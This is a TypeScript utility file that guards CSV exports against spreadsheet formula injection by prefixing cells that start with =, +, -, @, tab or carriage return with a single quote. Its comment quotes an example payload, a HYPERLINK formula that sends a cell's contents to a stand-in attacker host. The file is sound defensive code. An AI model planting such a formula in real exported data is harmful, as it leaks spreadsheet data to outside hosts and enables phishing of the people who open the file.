// Spreadsheet formula injection (CSV injection, CWE-1236): Excel, LibreOffice and Google
// Sheets treat a cell that begins with = + - @ (or a tab / carriage return before one) as a
// formula, so a subscriber named =HYPERLINK("https://evil.example/?"&A2,"Click") turns an
// export into a phishing or exfiltration tool. Every CSV the platform writes passes its
// cells through csvCell (or, for CSV that Postgres COPY writes, csvCellSql): such a cell gets
// a leading single quote, which spreadsheets show as text (OWASP's recommendation).
const FORMULA_START = /^[=+\-@\t\r]/;

export function csvCell(value: unknown): string {
  const s = value === null || value === undefined ? '' : String(value);
  return FORMULA_START.test(s) ? `'${s}` : s;
}

/** The same rule as a SQL expression over `column` (a trusted identifier, never user input). */
export function csvCellSql(column: string): string {
  return `CASE WHEN left(${column}, 1) IN ('=', '+', '-', '@', chr(9), chr(13)) THEN '''' || ${column} ELSE ${column} END`;
}
